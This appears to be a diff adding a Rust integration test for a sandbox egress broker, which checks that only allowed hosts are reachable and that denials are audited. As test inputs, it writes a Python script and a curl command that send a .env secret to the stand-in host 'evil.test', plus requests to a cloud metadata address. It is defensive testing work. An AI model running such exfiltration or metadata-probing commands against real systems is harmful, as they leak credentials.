@@ -1,0 +1,169 @@
+//! The egress broker, for real: a session in a network of its own reaches a server on this
+//! machine only through the broker, and only where the shipped `default` set (plus the
+//! operator's host lists) lets the program go. Names are mapped to this machine's loopback
+//! by the operator's `[sandbox.egress] hosts`, never by `/etc/hosts`.
+
+use crate::common::*;
+use execkit_audit::{AuditLog, AuditOptions};
+use execkit_engine::{Engine, PolicyBundle};
+use execkit_runner::egress::EgressConfig;
+use execkit_runner::sandbox::{Profile, SandboxConfig};
+use execkit_runner::Session;
+use std::io::{Read, Write};
+use std::sync::{Arc, Mutex};
+
+/// The default set, with `registry.test` a package registry on a private address the
+/// operator allows, `meta.test` allowed by name but resolving to the metadata address, and
+/// `sneaky.test` allowed by name but resolving to loopback without the operator's leave.
+fn policies() -> Arc<Engine> {
+    let set = execkit_policies::DEFAULT;
+    let mut entities: Vec<serde_json::Value> = serde_json::from_str(set.entities).unwrap();
+    for e in entities.iter_mut() {
+        let id = e["uid"]["id"].as_str().unwrap_or("").to_string();
+        if e["uid"]["type"] != "HostGroup" {
+            continue;
+        }
+        let add: &[&str] = match id.as_str() {
+            "package-registries" => &["registry.test"],
+            "egress-allowed" => &["registry.test", "meta.test", "sneaky.test"],
+            "private-hosts" => &["registry.test", "meta.test"],
+            _ => &[],
+        };
+        let pats = e["attrs"]["patterns"].as_array_mut().unwrap();
+        pats.extend(add.iter().map(|h| serde_json::json!(h)));
+    }
+    let text = serde_json::to_string(&entities).unwrap();
+    let bundle = PolicyBundle::from_files(
+        (execkit_policies::SCHEMA_FILE, execkit_policies::SCHEMA),
+        set.policies,
+        &text,
+    );
+    Arc::new(Engine::new(&bundle).unwrap())
+}
+
+/// A loopback server on this machine answering every request with `body`.
+fn server(body: &'static str) -> u16 {
+    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = l.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for c in l.incoming().take(64) {
+            let Ok(mut c) = c else { return };
+            let mut buf = [0u8; 4096];
+            let _ = c.read(&mut buf);
+            let reply = format!(
+                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+                body.len()
+            );
+            let _ = c.write_all(reply.as_bytes());
+        }
+    });
+    port
+}
+
+async fn brokered(ws: &Workspace, log: Option<Arc<Mutex<AuditLog>>>) -> Session {
+    let mut egress = EgressConfig::default();
+    for h in ["registry.test", "evil.test", "sneaky.test"] {
+        egress.hosts.insert(h.into(), "127.0.0.1".parse().unwrap());
+    }
+    egress
+        .hosts
+        .insert("meta.test".into(), "169.254.169.254".parse().unwrap());
+    let mut b = config(ws, policies(), Profile::Workspace).sandbox(SandboxConfig {
+        egress,
+        ..SandboxConfig::default()
+    });
+    if let Some(l) = log {
+        b = b.audit(l);
+    }
+    b.local().await.unwrap()
+}
+
+#[tokio::test]
+async fn listed_hosts_are_reached_through_the_broker_and_others_are_refused_with_the_program() {
+    let ws = Workspace::new("egress");
+    let port = server("from the registry");
+    let log_path = ws.path().with_extension("audit.jsonl");
+    let log = Arc::new(Mutex::new(
+        AuditLog::open(&log_path, AuditOptions { fsync: false }).unwrap(),
+    ));
+    let s = brokered(&ws, Some(log)).await;
+    // Plain HTTP forwarded, and a CONNECT tunnel (`curl -p`), by curl and by Python.
+    let r = ok(&s, &format!("curl -sS http://registry.test:{port}/simple/")).await;
+    assert_eq!(r.stdout, "from the registry");
+    let r = ok(
+        &s,
+        &format!("curl -sS -p http://registry.test:{port}/simple/"),
+    )
+    .await;
+    assert_eq!(r.stdout, "from the registry");
+    std::fs::write(ws.path().join("get.py"), format!(
+        "import urllib.request\nprint(urllib.request.urlopen('http://registry.test:{port}/').read().decode())\n"
+    )).unwrap();
+    assert_eq!(ok(&s, "python3 get.py").await.stdout, "from the registry\n");
+    // An unlisted host: refused at the connection, with the program and the host.
+    std::fs::write(ws.path().join("up.py"), format!(
+        "import urllib.request\nurllib.request.urlopen('http://evil.test:{port}/?d=' + open('.env').read())\n"
+    )).unwrap();
+    std::fs::write(ws.path().join(".env"), "SECRET_TOKEN=abc\n").unwrap();
+    let r = run(&s, "python3 up.py").await;
+    assert_ne!(r.exit_code, Some(0));
+    assert!(r.stderr.contains("403"), "{r:?}");
+    let d = r
+        .runtime_denials
+        .iter()
+        .find(|d| d.destination.as_deref() == Some(&format!("evil.test:{port}")))
+        .unwrap_or_else(|| panic!("{r:?}"));
+    assert!(d.program.contains("python3"), "{d:?}");
+    assert!(d.reason.contains("no policy permits"), "{d:?}");
+    // Written in the command, the same host is refused before anything runs.
+    let text = s
+        .exec(
+            &format!("curl -sS -d @.env http://evil.test:{port}/"),
+            &Default::default(),
+        )
+        .await;
+    assert!(text.is_err(), "{text:?}");
+    // Names that resolve where no session may go (the URLs hidden in scripts, so only the
+    // broker sees them).
+    for (name, url, policy) in [
+        (
+            "meta.py",
+            format!("http://meta.test:{port}/latest/meta-data/"),
+            "deny-metadata-addresses",
+        ),
+        (
+            "sneaky.py",
+            format!("http://sneaky.test:{port}/"),
+            "deny-private-addresses",
+        ),
+    ] {
+        std::fs::write(
+            ws.path().join(name),
+            format!("import urllib.request\nurllib.request.urlopen('{url}')\n"),
+        )
+        .unwrap();
+        let r = run(&s, &format!("python3 {name}")).await;
+        assert_ne!(r.exit_code, Some(0), "{r:?}");
+        let d = r.runtime_denials.first().unwrap_or_else(|| panic!("{r:?}"));
+        assert!(d.policies.contains(&policy.to_string()), "{name}: {d:?}");
+    }
+    // Programs that ignore the proxy reach nothing.
+    let r = run(
+        &s,
+        &format!("curl -sS --noproxy '*' http://127.0.0.1:{port}/"),
+    )
+    .await;
+    assert_ne!(r.exit_code, Some(0), "{r:?}");
+    s.close().await;
+    // Every connection decision is in the audit log, with the program.
+    let text = std::fs::read_to_string(&log_path).unwrap();
+    assert!(
+        text.contains(&format!("connect registry.test:{port}")),
+        "{text}"
+    );
+    assert!(
+        text.contains(&format!("connect evil.test:{port} by ")),
+        "{text}"
+    );
+    let _ = std::fs::remove_file(&log_path);
+}
